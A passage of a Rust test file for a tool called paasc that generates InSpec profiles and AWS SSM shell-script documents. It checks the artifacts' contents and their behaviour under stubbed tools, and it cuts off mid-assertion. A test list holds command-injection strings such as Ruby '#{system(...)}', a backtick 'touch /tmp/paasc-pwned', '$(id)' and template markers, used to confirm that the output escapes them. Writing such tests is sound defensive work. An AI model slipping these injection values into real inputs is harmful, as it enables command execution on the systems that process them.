//! InSpec profile and SSM command documents: every model's artifacts pass
//! `scripts/validate/inspec.sh` and `scripts/validate/ssm.sh` (Ruby's parser
//! and YAML, `bash -n`), the generated files carry the facts issue 5 names,
//! and hostile spec strings come out of Ruby and bash as inert text.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use paasc::emit::{inspec, ssm, Artifact};
use paasc::model::{sample, App, Check, FileState, Kms, PortState, Strategy, Verify};
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::Command;

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// Every model the validators run on: the hand-built samples, and each
/// project example compiled for its default env and every env it declares.
fn models() -> Vec<(String, App)> {
    let mut out = vec![
        ("sample shop_prod".to_string(), sample::shop_prod()),
        ("sample minimal".to_string(), sample::minimal()),
    ];
    for name in ["shop", "minimal", "batch"] {
        let path = root().join("examples").join(format!("{name}.paas"));
        let default = paasc::compile_file(&path, None, &[])
            .unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        for env in default.envs.clone() {
            let app = paasc::compile_file(&path, Some(&env), &[])
                .unwrap_or_else(|e| panic!("{} --env {env}: {e}", path.display()));
            out.push((format!("{name}.paas env {env}"), app));
        }
        out.push((format!("{name}.paas default"), default));
    }
    out
}

/// Writes artifacts under `<dir>/<app>/<env>/` like `paasc build` and returns that OUTDIR.
fn write(dir: &Path, app: &App, artifacts: &[Artifact]) -> PathBuf {
    let out = dir.join(&app.name).join(&app.env);
    for a in artifacts {
        let p = out.join(&a.path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, &a.contents).unwrap();
    }
    out
}

fn need(tool: &str) {
    let ok = Command::new("sh")
        .arg("-c")
        .arg(format!("command -v {tool}"))
        .output()
        .map(|o| o.status.success())
        .unwrap_or(false);
    assert!(ok, "`{tool}` is not on PATH: run scripts/install-deps.sh");
}

fn run_validator(script: &str, outdir: &Path, what: &str) {
    let out = Command::new("bash")
        .arg(root().join("scripts/validate").join(script))
        .arg(outdir)
        .output()
        .unwrap_or_else(|e| panic!("cannot run {script}: {e}"));
    assert!(
        out.status.success(),
        "{script} failed for {what}:\n{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

fn artifact<'a>(artifacts: &'a [Artifact], path: &str) -> &'a str {
    &artifacts
        .iter()
        .find(|a| a.path == path)
        .unwrap_or_else(|| panic!("no {path}"))
        .contents
}

fn all_controls(artifacts: &[Artifact]) -> String {
    artifacts
        .iter()
        .filter(|a| a.path.starts_with("inspec/controls/"))
        .map(|a| a.contents.as_str())
        .collect()
}

fn doc(artifacts: &[Artifact], stage: &str) -> Value {
    serde_json::from_str(artifact(artifacts, &format!("ssm/{stage}.json"))).unwrap()
}

fn script(doc: &Value) -> String {
    let lines = doc["mainSteps"][0]["inputs"]["runCommand"]
        .as_array()
        .unwrap();
    lines
        .iter()
        .map(|l| l.as_str().unwrap())
        .collect::<Vec<_>>()
        .join("\n")
}

fn param_names(doc: &Value) -> Vec<String> {
    doc["parameters"]
        .as_object()
        .unwrap()
        .keys()
        .cloned()
        .collect()
}

#[test]
#[cfg_attr(
    not(feature = "tool-tests"),
    ignore = "tool tier (ruby): scripts/test.sh runs it"
)]
fn inspec_profiles_pass_ruby_and_yaml_checks() {
    need("ruby");
    let dir = tempfile::tempdir().unwrap();
    for (what, app) in models() {
        let outdir = write(
            &dir.path().join(what.replace(' ', "_")),
            &app,
            &inspec::emit(&app).unwrap(),
        );
        run_validator("inspec.sh", &outdir, &what);
    }
}

#[test]
#[cfg_attr(
    not(feature = "tool-tests"),
    ignore = "tool tier (ruby): scripts/test.sh runs it"
)]
fn ssm_documents_pass_shape_and_bash_checks() {
    need("ruby");
    need("bash");
    let dir = tempfile::tempdir().unwrap();
    for (what, app) in models() {
        let outdir = write(
            &dir.path().join(what.replace(' ', "_")),
            &app,
            &ssm::emit(&app).unwrap(),
        );
        run_validator("ssm.sh", &outdir, &what);
    }
}

#[test]
fn emit_all_includes_profile_and_documents() {
    let app = sample::minimal();
    let paths: Vec<String> = paasc::emit::emit_all(&app)
        .unwrap()
        .into_iter()
        .map(|a| a.path)
        .collect();
    for p in [
        "inspec/inspec.yml",
        "inspec/controls/implied.rb",
        "ssm/bake.json",
        "ssm/provision.json",
        "ssm/validate.json",
        "ssm/post.json",
    ] {
        assert!(
            paths.iter().any(|x| x == p),
            "emit_all lacks {p}: {paths:?}"
        );
    }
}

#[test]
fn inspec_profile_facts_shop() {
    let app = sample::shop_prod();
    let arts = inspec::emit(&app).unwrap();
    let yml = artifact(&arts, "inspec/inspec.yml");
    assert!(yml.starts_with("# generated by paasc "), "{yml}");
    for fact in [
        "name: \"shop-prod\"",
        "maintainer: \"storefront\"",
        "version: \"1.4.0\"",
        "  - platform-family: \"debian\"\n    platform-name: \"ubuntu\"",
        "  - name: app_port",
        "    value: 8443",
        "    value: \"/health\"",
    ] {
        assert!(yml.contains(fact), "inspec.yml lacks {fact:?}:\n{yml}");
    }
    let paths: Vec<&str> = arts.iter().map(|a| a.path.as_str()).collect();
    assert_eq!(
        paths,
        [
            "inspec/controls/implied.rb",
            "inspec/controls/pack-baseline.rb",
            "inspec/controls/verify.rb",
            "inspec/inspec.yml"
        ]
    );
    for a in &arts {
        assert!(
            a.contents.starts_with("# generated by paasc "),
            "{} has no header",
            a.path
        );
    }
    let verify = artifact(&arts, "inspec/controls/verify.rb");
    for fact in [
        "control 'shop-port-8443' do",
        "describe port(8443) do\n    it { should be_listening }",
        "control 'shop-service-nginx' do",
        "describe service('nginx') do\n    it { should be_installed }\n    it { should be_enabled }\n    it { should be_running }",
        "control 'shop-package-nginx' do",
        "describe package('nginx') do\n    it { should be_installed }\n    its('version') { should cmp '>= 1.24' }",
        "control 'shop-file-etc-shop-app-yml' do",
        "describe file('/etc/shop/app.yml') do\n    it { should exist }\n    its('mode') { should cmp '0640' }\n    it { should be_owned_by 'shop' }",
        "describe file('/root/.ssh/authorized_keys') do\n    it { should_not exist }\n  end",
        "control 'shop-command-nginx-t' do",
        "describe command('nginx -t') do\n    its('exit_status') { should eq 0 }",
        "control 'shop-http-health' do",
        "describe http('http://localhost:8443/health') do\n    its('status') { should cmp 200 }",
        "tag app: 'shop', env: 'prod', check: 'port', origin: 'verify'",
    ] {
        assert!(verify.contains(fact), "verify.rb lacks {fact:?}:\n{verify}");
    }
    let pack = artifact(&arts, "inspec/controls/pack-baseline.rb");
    assert!(pack.contains("control 'shop-port-22' do"), "{pack}");
    assert!(
        pack.contains("describe port(22) do\n    it { should_not be_listening }"),
        "{pack}"
    );
    assert!(pack.contains("impact 1.0"), "{pack}");
    assert!(pack.contains("origin: 'pack', pack: 'baseline'"), "{pack}");
    // the pack repeats the explicit authorized_keys check: same id base, suffixed
    assert!(
        pack.contains("control 'shop-file-root-ssh-authorized-keys-2' do"),
        "{pack}"
    );

    // implied: covered ones (app port, port 22, cloudwatch agent, health) are
    // left out; Ubuntu's SSM agent is the snap unit, which no check names.
    let implied = artifact(&arts, "inspec/controls/implied.rb");
    assert_eq!(implied.matches("\ncontrol ").count(), 1, "{implied}");
    assert!(
        implied.contains("describe service('snap.amazon-ssm-agent.amazon-ssm-agent') do"),
        "{implied}"
    );
    let all = all_controls(&arts);
    assert_eq!(all.matches("describe port(22)").count(), 1);
    assert_eq!(
        all.matches("describe service('amazon-cloudwatch-agent')")
            .count(),
        1
    );
}

#[test]
fn inspec_profile_facts_minimal() {
    let app = sample::minimal();
    let arts = inspec::emit(&app).unwrap();
    let yml = artifact(&arts, "inspec/inspec.yml");
    assert!(
        yml.contains("  - platform-family: \"redhat\"\n    platform-name: \"amazon\""),
        "{yml}"
    );
    let paths: Vec<&str> = arts.iter().map(|a| a.path.as_str()).collect();
    assert_eq!(paths, ["inspec/controls/implied.rb", "inspec/inspec.yml"]);
    let implied = artifact(&arts, "inspec/controls/implied.rb");
    for fact in [
        "control 'minimal-port-8080' do",
        "describe port(input('app_port')) do\n    it { should be_listening }",
        "control 'minimal-port-22' do",
        "describe port(22) do\n    it { should_not be_listening }",
        "describe service('amazon-ssm-agent') do",
        "describe service('amazon-cloudwatch-agent') do",
        "describe http('http://localhost:' + input('app_port').to_s + input('health_path')) do",
        "origin: 'implied'",
    ] {
        assert!(
            implied.contains(fact),
            "implied.rb lacks {fact:?}:\n{implied}"
        );
    }
    assert_eq!(implied.matches("\ncontrol ").count(), 5);
}

#[test]
fn inspec_output_is_deterministic() {
    for (_, app) in models() {
        assert_eq!(inspec::emit(&app).unwrap(), inspec::emit(&app).unwrap());
        assert_eq!(ssm::emit(&app).unwrap(), ssm::emit(&app).unwrap());
    }
}

#[test]
fn ssm_document_facts() {
    let shop = sample::shop_prod();
    let arts = ssm::emit(&shop).unwrap();
    let paths: Vec<&str> = arts.iter().map(|a| a.path.as_str()).collect();
    assert_eq!(
        paths,
        [
            "ssm/bake.json",
            "ssm/post.json",
            "ssm/provision.json",
            "ssm/validate.json"
        ]
    );
    for stage in paasc::model::names::ToolStage::ALL.map(|s| s.word()) {
        let d = doc(&arts, stage);
        assert_eq!(d["schemaVersion"], "2.2");
        assert_eq!(d["mainSteps"].as_array().unwrap().len(), 1);
        assert_eq!(d["mainSteps"][0]["action"], "aws:runShellScript");
        let s = script(&d);
        assert!(
            s.starts_with("#!/bin/bash\n# generated by paasc "),
            "{stage}: {s}"
        );
        assert!(s.contains("\nset -euo pipefail\n"), "{stage}");
        assert!(s.contains("\nexec 3>&1 1>&2\n"), "{stage}");
        for p in ["ArtifactBucket", "ArtifactPrefix", "ExecutionId"] {
            assert!(
                d["parameters"][p]["allowedPattern"].is_string(),
                "{stage} lacks {p}"
            );
        }
        for (name, p) in d["parameters"].as_object().unwrap() {
            assert!(
                p["allowedPattern"].is_string(),
                "{stage}.{name} has no allowedPattern"
            );
        }
    }
    // bake: packer init + build with the pipeline variables, only the AMI id on stdout
    let bake = doc(&arts, "bake");
    assert_eq!(
        param_names(&bake),
        [
            "ArtifactBucket",
            "ArtifactPrefix",
            "BuildTimestamp",
            "ExecutionId",
            "SourceAmi",
            "Version"
        ]
    );
    assert_eq!(bake["parameters"]["Version"]["default"], "1.4.0");
    let s = script(&bake);
    assert!(s.contains("\npacker init .\n"), "{s}");
    assert!(s.contains("packer build -color=false -machine-readable -var \"version=${VERSION}\" -var \"source_ami=${SOURCE_AMI}\" -var \"build_timestamp=${BUILD_TIMESTAMP}\" ."), "{s}");
    assert!(s.contains("fetch packer\nfetch chef\n"), "{s}");
    assert!(s.ends_with("printf '%s' \"$AMI_ID\" >&3"), "{s}");
    assert!(s.contains("REGION_PREFIX='eu-west-1:'"), "{s}");

    // provision: terraform init + apply with ami_id and the weights, outputs on stdout
    let prov = doc(&arts, "provision");
    assert_eq!(
        param_names(&prov),
        [
            "AmiId",
            "ArtifactBucket",
            "ArtifactPrefix",
            "BlueWeight",
            "ExecutionId",
            "GreenWeight",
            "LiveAmiId",
            "LiveColour",
            "StateBucket",
            "StateKmsKey"
        ]
    );
    let s = script(&prov);
    assert!(s.contains("terraform init -input=false -no-color -backend-config=\"bucket=${STATE_BUCKET}\" -backend-config=\"kms_key_id=${STATE_KMS_KEY}\""), "{s}");
    assert!(
        s.contains("terraform apply -input=false -no-color -auto-approve -var \"ami_id=${AMI_ID}\" -var \"blue_weight=${BLUE_WEIGHT}\" -var \"green_weight=${GREEN_WEIGHT}\" -var \"live_colour=${LIVE_COLOUR}\" -var \"live_ami_id=${LIVE_AMI_ID}\""),
        "{s}"
    );
    assert!(
        !s.contains("/var/lib/"),
        "the state is remote, the directory is the run's own: {s}"
    );
    assert!(s.ends_with("printf '%s' \"$OUTPUTS\" >&3"), "{s}");

    // validate: inspec with a JSON reporter, exit codes, SSE-KMS upload to the logs bucket
    let val = doc(&arts, "validate");
    assert_eq!(
        param_names(&val),
        ["ArtifactBucket", "ArtifactPrefix", "AsgName", "ExecutionId"]
    );
    let s = script(&val);
    assert!(
        s.contains("cinc-auditor exec \"$WORK/inspec\" -t \"awsssm://${ID}\""),
        "{s}"
    );
    assert!(
        s.contains("--reporter cli \"json:${WORK}/reports/${ID}.json\""),
        "{s}"
    );
    assert!(s.contains("    101) "), "{s}");
    assert!(s.contains("    100) "), "{s}");
    assert!(
        s.contains("REPORT_BUCKET='shop-logs-prod-222233334444'"),
        "{s}"
    );
    assert!(
        s.contains("REPORT_KEY=\"inspec/${EXECUTION_ID}.json\""),
        "{s}"
    );
    assert!(
        s.contains("REPORT_KMS_KEY='arn:aws:kms:eu-west-1:222233334444:alias/shop'"),
        "{s}"
    );
    assert!(
        s.contains("--sse aws:kms --sse-kms-key-id \"$REPORT_KMS_KEY\""),
        "{s}"
    );
    // the upload comes before the exit on failure
    assert!(
        s.find("aws s3 cp --only-show-errors --sse aws:kms")
            .unwrap()
            < s.find("failed) exit 100").unwrap()
    );
    // cross-account pipeline: the app's role is assumed before touching the ASG
    assert!(
        s.contains("aws sts assume-role --role-arn \"$ROLE_ARN\""),
        "{s}"
    );
    assert!(s.find("assume-role").unwrap() < s.find("describe-auto-scaling-groups").unwrap());
    assert!(s.find("fetch inspec").unwrap() < s.find("assume-role").unwrap());

    // post: https smoke test of the health path with retries
    let post = doc(&arts, "post");
    assert_eq!(
        param_names(&post),
        [
            "AlbDnsName",
            "AmiId",
            "ArtifactBucket",
            "ArtifactPrefix",
            "Colour",
            "ExecutionId",
            "LiveAmiId"
        ]
    );
    let s = script(&post);
    // Blue-green: the smoke test reaches the colour that took the release.
    assert!(s.contains("--header \"X-Paas-Colour: ${COLOUR}\""), "{s}");
    assert!(
        s.contains("URL=\"https://${ALB_DNS_NAME}${HEALTH_PATH}\""),
        "{s}"
    );
    assert!(s.contains("HEALTH_PATH='/health'"), "{s}");
    assert!(s.contains("for ATTEMPT in $(seq 1 30); do"), "{s}");
    assert!(s.contains("LOG_GROUP='/paas/shop/prod'"), "{s}");

    // minimal: http, Kms::Managed -> the module's alias, KmsKeyId for packer, no cross-account role
    let min = sample::minimal();
    let arts = ssm::emit(&min).unwrap();
    let s = script(&doc(&arts, "post"));
    assert!(
        s.contains("URL=\"http://${ALB_DNS_NAME}${HEALTH_PATH}\""),
        "{s}"
    );
    assert!(!s.contains("--insecure"), "{s}");
    let s = script(&doc(&arts, "validate"));
    assert!(
        s.contains(
            "REPORT_KMS_KEY='arn:aws:kms:eu-west-1:111122223333:alias/paas-minimal-default'"
        ),
        "{s}"
    );
    assert!(
        s.contains("ROLE_ARN='arn:aws:iam::111122223333:role/paas-provision-eu-west-1'"),
        "single-account apps are reached through the provision role too: {s}"
    );
    // The template encrypts with the app's key by ARN: nothing to pass.
    let bake = doc(&arts, "bake");
    assert!(matches!(min.kms, Kms::Managed));
    assert!(bake["parameters"]["KmsKeyId"].is_null());
    assert!(!script(&bake).contains("kms_key_id"));
    // No subnet in the spec: the runner's own, from its environment.
    assert!(script(&bake).contains("-var \"subnet_id=${BUILDER_SUBNET}\""));

    // rolling: no weights
    let mut rolling = sample::minimal();
    rolling.release.strategy = Strategy::Rolling;
    let prov = doc(&ssm::emit(&rolling).unwrap(), "provision");
    assert_eq!(
        param_names(&prov),
        [
            "AmiId",
            "ArtifactBucket",
            "ArtifactPrefix",
            "ExecutionId",
            "StateBucket",
            "StateKmsKey"
        ]
    );
    assert!(!script(&prov).contains("weight"));
}

// ---------------------------------------------------------------- hostile input

const HOSTILE: &[&str] = &[
    "it's \"quoted\"",
    "#{system('x')}",
    "#{`touch /tmp/paasc-pwned`}",
    "trailing backslash \\",
    "back\\'slash\\\\ #{raise 'evaluated'}",
    "line1\nline2'\nsystem('x')\n#",
    "\n=begin\n",
    "\n__END__\n",
    "%q{x} \"#{1+1}\" ${HOME} $(id) `id` {{ Injected }}",
    "tab\tcr\rnul\u{0}",
];

/// A model whose every user string that reaches Ruby is hostile.
fn hostile_app(i: usize) -> App {
    let h = |k: usize| HOSTILE[(i + k) % HOSTILE.len()].to_string();
    let mut app = sample::minimal();
    app.team = h(0);
    app.service.health = format!("/{}", h(1));
    app.source.file_name = format!("x\n{}.paas", h(2));
    app.verify = vec![
        Verify::Check {
            check: Check::Service { name: h(0) },
        },
        Verify::Check {
            check: Check::Package {
                name: h(1),
                constraint: Some(h(2)),
            },
        },
        Verify::Check {
            check: Check::File {
                path: h(3),
                state: FileState::Exists,
                mode: Some(h(4)),
                owner: Some(h(5)),
            },
        },
        Verify::Check {
            check: Check::File {
                path: h(6),
                state: FileState::Absent,
                mode: None,
                owner: None,
            },
        },
        Verify::Check {
            check: Check::Command {
                command: h(7),
                exit: 3,
            },
        },
        Verify::Check {
            check: Check::Http {
                path: h(8),
                status: 204,
            },
        },
        Verify::Pack {
            name: h(9),
            checks: vec![
                Check::Service { name: h(1) },
                Check::Port {
                    port: 9,
                    state: PortState::Closed,
                },
            ],
        },
    ];
    app
}

/// Evaluates a control file with stub InSpec methods that record every
/// call and its arguments; Kernel's command runners flag any evaluation.
const PRELUDE: &str = r#"
require 'json'
$log = []
$evaluated = false
module Kernel
  def system(*a); $evaluated = true; true; end
  def `(c); $evaluated = true; ''; end
  def exec(*a); $evaluated = true; end
  def spawn(*a); $evaluated = true; end
end
class Stub
  def input(name)
    { 'app_port' => 8080, 'health_path' => '/' }.fetch(name)
  end
  def method_missing(name, *args, &blk)
    $log << [name.to_s, args.map { |a| a.is_a?(Stub) ? '<stub>' : a }]
    instance_eval(&blk) if blk
    self
  end
  def respond_to_missing?(*)
    true
  end
end
path = ARGV.fetch(0)
Stub.new.instance_eval(File.read(path), path)
puts JSON.generate({ 'log' => $log, 'evaluated' => $evaluated })
"#;

fn strings_in(v: &Value, out: &mut Vec<String>) {
    match v {
        Value::String(s) => out.push(s.clone()),
        Value::Array(a) => a.iter().for_each(|x| strings_in(x, out)),
        Value::Object(o) => o.values().for_each(|x| strings_in(x, out)),
        _ => {}
    }
}

#[test]
#[cfg_attr(
    not(feature = "tool-tests"),
    ignore = "tool tier (ruby): scripts/test.sh runs it"
)]
fn hostile_strings_are_inert_in_ruby_yaml_and_bash() {
    need("ruby");
    need("bash");
    let dir = tempfile::tempdir().unwrap();
    let prelude = dir.path().join("prelude.rb");
    std::fs::write(&prelude, PRELUDE).unwrap();
    for i in 0..HOSTILE.len() {
        let app = hostile_app(i);
        let h = |k: usize| HOSTILE[(i + k) % HOSTILE.len()].to_string();
        let arts = inspec::emit(&app).unwrap();
        let outdir = write(&dir.path().join(format!("h{i}")), &app, &arts);
        // ruby -c on every control file, YAML shape, headers, ids
        run_validator("inspec.sh", &outdir, &format!("hostile model {i}"));

        // evaluate every control file: the hostile text arrives verbatim as data
        let mut seen = Vec::new();
        for a in arts
            .iter()
            .filter(|a| a.path.starts_with("inspec/controls/"))
        {
            let out = Command::new("ruby")
                .arg(&prelude)
                .arg(outdir.join(&a.path))
                .output()
                .unwrap();
            assert!(
                out.status.success(),
                "model {i}: {} did not evaluate:\n{}\n{}",
                a.path,
                String::from_utf8_lossy(&out.stderr),
                a.contents
            );
            let v: Value = serde_json::from_slice(&out.stdout).unwrap();
            assert_eq!(
                v["evaluated"], false,
                "model {i}: {} ran a command:\n{}",
                a.path, a.contents
            );
            strings_in(&v["log"], &mut seen);
        }
        assert!(!Path::new("/tmp/paasc-pwned").exists());
        let expect = [
            h(0),
            h(1),
            h(2),
            h(3),
            h(4),
            h(5),
            h(6),
            h(7),
            format!("http://localhost:8080{}", h(8)),
            h(9),
            format!("Command `{}` exits 3", h(7)),
            format!("Service {} is installed, enabled and running", h(0)),
        ];
        for e in expect {
            assert!(
                seen.contains(&e),
                "model {i}: {e:?} did not come out of Ruby verbatim; got {seen:?}"
            );
        }

        // YAML: the hostile team and health path read back exactly
        let out = Command::new("ruby")
            .args([
                "-ryaml",
                "-rjson",
                "-e",
                "puts JSON.generate(YAML.safe_load(File.read(ARGV[0])))",
            ])
            .arg(outdir.join("inspec/inspec.yml"))
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let meta: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(meta["maintainer"], h(0).as_str());
        assert_eq!(meta["inputs"][1]["value"], format!("/{}", h(1)).as_str());

        // SSM: documents still valid, and model text reaches bash as data
        let docs = ssm::emit(&app).unwrap();
        let sdir = write(&dir.path().join(format!("s{i}")), &app, &docs);
        run_validator("ssm.sh", &sdir, &format!("hostile model {i}"));
        let post = script(&doc(&docs, "post"));
        let line = post
            .lines()
            .find(|l| l.starts_with("HEALTH_PATH="))
            .unwrap()
            .to_string();
        // the value may span lines: take the assignment up to the URL line
        let start = post.find(&line).unwrap();
        let end = post.find("\nURL=").unwrap();
        let assignment = &post[start..end];
        let snippet = dir.path().join(format!("health{i}.sh"));
        std::fs::write(
            &snippet,
            format!("{assignment}\nprintf '%s' \"$HEALTH_PATH\"\n"),
        )
        .unwrap();
        let out = Command::new("bash").arg(&snippet).output().unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let expected = format!("/{}", h(1)).replace('\u{0}', "");
        // bash drops NUL bytes from variables; nothing else may change
        assert_eq!(
            String::from_utf8_lossy(&out.stdout),
            expected.as_str(),
            "model {i}"
        );
    }
}

// ------------------------------------------------- the scripts, run with stub tools

#[path = "support/stub_tools.rs"]
mod stub_tools;

struct Run {
    code: i32,
    stdout: String,
    log: String,
    dir: tempfile::TempDir,
}

const BUCKET: &str = "paas-artifacts-777788889999";
const AMI: &str = "ami-0123456789abcdef0";

/// The prefix deploy would upload the app's build under (its real content
/// hash: the bake checks manifest.json against it).
fn prefix(app: &App) -> String {
    let artifacts = paasc::emit::build(app).unwrap();
    let manifest = artifacts
        .iter()
        .find(|a| a.path == "manifest.json")
        .unwrap();
    format!(
        "{}/{}/{}/{}/",
        app.name,
        app.env,
        app.version,
        paasc::hash::sha256_hex(manifest.contents.as_bytes())
    )
}

/// Runs one document's script with its parameters filled in (declared
/// defaults, else `values`), the stub tools first on PATH, the build's
/// artifacts in the stub bucket (after `tamper` changed what it names),
/// and a runner environment with the platform's builder tools.
fn run_document_with(
    app: &App,
    stage: &str,
    values: &[(&str, &str)],
    inspec_rc: i32,
    tamper: &dyn Fn(&Path),
    extra_env: &[(&str, &str)],
) -> Run {
    let dir = tempfile::tempdir().unwrap();
    let bin = stub_tools::install(dir.path());
    // The bucket: every artifact under the release's prefix.
    let prefix = prefix(app);
    let release = stub_tools::put_release(
        &dir.path().join("s3"),
        BUCKET,
        &prefix,
        &paasc::emit::build(app).unwrap(),
    );
    tamper(&release);
    // The runner: its verified tools (and their sums) and its subnet.
    let env = stub_tools::runner(
        dir.path(),
        &[
            "cinc-18.6.2-1.el9.x86_64.rpm",
            "amazon-cloudwatch-agent-1.300057.1.x86_64.rpm",
            "cinc_18.6.2-1_amd64.deb",
            "amazon-cloudwatch-agent-1.300057.1_amd64.deb",
            "terraform_1.11.4_linux_amd64.zip",
        ],
    );

    let d = doc(&ssm::emit(app).unwrap(), stage);
    let mut text = script(&d);
    for (name, p) in d["parameters"].as_object().unwrap() {
        let value = if name == "ArtifactPrefix" {
            Some(prefix.clone())
        } else {
            values
                .iter()
                .find(|(k, _)| k == name)
                .map(|(_, v)| v.to_string())
                .or_else(|| p["default"].as_str().map(str::to_string))
        };
        let value =
            value.unwrap_or_else(|| panic!("{stage}: no value for required parameter {name}"));
        text = text.replace(&format!("{{{{ {name} }}}}"), &value);
    }
    let path = dir.path().join(format!("{stage}.sh"));
    std::fs::write(&path, &text).unwrap();
    let log = dir.path().join("log");
    let out = Command::new("bash")
        .arg(&path)
        .env(
            "PATH",
            format!(
                "{}:{}",
                bin.display(),
                std::env::var("PATH").unwrap_or_default()
            ),
        )
        .env("PAASC_RUNNER_ENV", &env)
        .env("STUB_LOG", &log)
        .env("STUB_DIR", dir.path())
        .env("STUB_S3", dir.path().join("s3"))
        .env("STUB_REGION", &app.region)
        .env("STUB_INSPEC_RC", inspec_rc.to_string())
        .envs(extra_env.iter().copied())
        .output()
        .unwrap();
    Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8(out.stdout).unwrap(),
        log: format!(
            "{}\n--- stderr:\n{}",
            std::fs::read_to_string(&log).unwrap_or_default(),
            String::from_utf8_lossy(&out.stderr)
        ),
        dir,
    }
}

fn run_document(app: &App, stage: &str, values: &[(&str, &str)], inspec_rc: i32) -> Run {
    run_document_with(app, stage, values, inspec_rc, &|_| {}, &[])
}

const VALUES: &[(&str, &str)] = &[
    ("ArtifactBucket", BUCKET),
    ("ExecutionId", "shop-prod-1_4_0-0123abcd4567"),
    ("AmiId", AMI),
    ("AsgName", "shop-prod-green"),
    ("Colour", "green"),
    ("LiveColour", "blue"),
    ("LiveAmiId", "ami-0fedcba9876543210"),
    ("AlbDnsName", "shop-prod-123456.eu-west-1.elb.amazonaws.com"),
    ("StateBucket", "paas-tfstate-777788889999-eu-west-1"),
    (
        "StateKmsKey",
        "arn:aws:kms:eu-west-1:777788889999:key/1234abcd-12ab-34cd-56ef-1234567890ab",
    ),
];

#[test]
fn ssm_scripts_run_with_stub_tools() {
    need("bash");
    need("python3");
    need("sha256sum");
    for app in [sample::shop_prod(), sample::minimal()] {
        let what = app.prefix();
        let release = prefix(&app);

        let r = run_document(&app, "bake", VALUES, 0);
        assert_eq!(
            (r.code, r.stdout.as_str()),
            (0, AMI),
            "{what} bake:\n{}",
            r.log
        );
        assert!(r.log.contains("packer init ."), "{}", r.log);
        assert!(r.log.contains(&format!("packer build -color=false -machine-readable -var version={} -var source_ami= -var build_timestamp=", app.version)), "{}", r.log);
        assert!(
            r.log.contains(&format!(
                "aws s3 cp --recursive --only-show-errors s3://{BUCKET}/{release}packer/"
            )),
            "{}",
            r.log
        );
        assert!(r.log.contains(&format!("/{release}chef/")), "{}", r.log);
        // The builder tools and the sums the builder checks sit beside the template.
        assert!(r.log.contains("../tools/SHA256SUMS"), "{}", r.log);
        let subnet = "-var subnet_id=subnet-0123456789abcdef0";
        assert_eq!(
            r.log.contains(subnet),
            app.builder_subnet().is_none(),
            "{what}: the runner's subnet is the builder's only when the spec names none:\n{}",
            r.log
        );

        let r = run_document(&app, "provision", VALUES, 0);
        assert_eq!(r.code, 0, "{what} provision:\n{}", r.log);
        assert!(
            r.stdout.starts_with('{') && !r.stdout.contains('\n'),
            "{what}: {:?}",
            r.stdout
        );
        let outputs: Value = serde_json::from_str(&r.stdout).unwrap();
        assert_eq!(outputs["alb_dns_name"]["value"], "a b");
        let weights = if app.release.strategy == Strategy::BlueGreen {
            " -var blue_weight=100 -var green_weight=0 -var live_colour=blue -var live_ami_id=ami-0fedcba9876543210"
        } else {
            ""
        };
        if app.release.strategy == Strategy::BlueGreen {
            // The idle colour (green: blue is live, with 2 hosts) gets at
            // least the live colour's size, at most the env's max, and the
            // stage waits for that many healthy targets.
            let want = app.fleet.desired.max(2).min(app.fleet.max);
            assert!(
                r.log.contains(&format!(
                    "aws autoscaling set-desired-capacity --auto-scaling-group-name {}-green --desired-capacity {want}",
                    app.prefix()
                )),
                "{}",
                r.log
            );
            assert!(r.log.contains("aws elbv2 describe-target-health --target-group-arn arn:aws:elasticloadbalancing:eu-west-1:222233334444:targetgroup/green_target_group_arn/"), "{}", r.log);
            assert!(
                r.log
                    .contains("terraform output -no-color -raw green_target_group_arn"),
                "{}",
                r.log
            );
            // An idle colour that still has hosts (of an older AMI) is
            // emptied before the apply puts the new AMI on it.
            assert!(!r.log.contains("update-auto-scaling-group"), "{}", r.log);
            let r = run_document_with(&app, "provision", VALUES, 0, &|_| {}, &[("STUB_LEFT", "2")]);
            assert_eq!(r.code, 0, "{}", r.log);
            let empty = r
                .log
                .find(&format!("aws autoscaling update-auto-scaling-group --auto-scaling-group-name {}-green --min-size 0 --desired-capacity 0", app.prefix()))
                .unwrap_or_else(|| panic!("{}", r.log));
            assert!(empty < r.log.find("terraform apply").unwrap(), "{}", r.log);
            // Too few healthy hosts by the deadline: the stage fails.
            let mut short = app.clone();
            short.pipeline.deadlines.provision = 61;
            let r = run_document_with(
                &short,
                "provision",
                VALUES,
                0,
                &|_| {},
                &[("STUB_HEALTHY", "0")],
            );
            assert_eq!(r.code, 1, "{}", r.log);
            assert!(
                r.log.contains("became healthy before the stage's deadline"),
                "{}",
                r.log
            );
            assert!(r.stdout.is_empty(), "{:?}", r.stdout);
        }
        assert!(
            r.log.contains(&format!(
                "terraform apply -input=false -no-color -auto-approve -var ami_id={AMI}{weights}"
            )),
            "{}",
            r.log
        );
        assert!(
            r.log.contains("terraform init -input=false -no-color -backend-config=bucket=paas-tfstate-777788889999-eu-west-1 -backend-config=kms_key_id=arn:aws:kms:eu-west-1:777788889999:key/1234abcd-12ab-34cd-56ef-1234567890ab"),
            "{}",
            r.log
        );

        // Skipped controls (101) fail unless the spec allows them.
        for (allow, rc, code, status) in [
            (false, 0, 0, "passed"),
            (false, 101, 100, "failed"),
            (true, 101, 0, "passed"),
            (false, 100, 100, "failed"),
            (false, 1, 1, "error"),
        ] {
            let mut app = app.clone();
            app.release.allow_skipped_controls = allow;
            let r = run_document(&app, "validate", VALUES, rc);
            assert_eq!(
                r.code, code,
                "{what} validate (cinc-auditor {rc}, allow {allow}):\n{}",
                r.log
            );
            let summary: Value =
                serde_json::from_str(&r.stdout).unwrap_or_else(|e| panic!("{e}: {:?}", r.stdout));
            assert_eq!(summary["status"], status);
            // Results over both hosts, counted from their reports.
            let counts = match rc {
                100 => (2, 2, 0),
                101 => (2, 0, 2),
                _ => (4, 0, 0),
            };
            assert_eq!(
                (
                    summary["passed"].as_u64(),
                    summary["failed"].as_u64(),
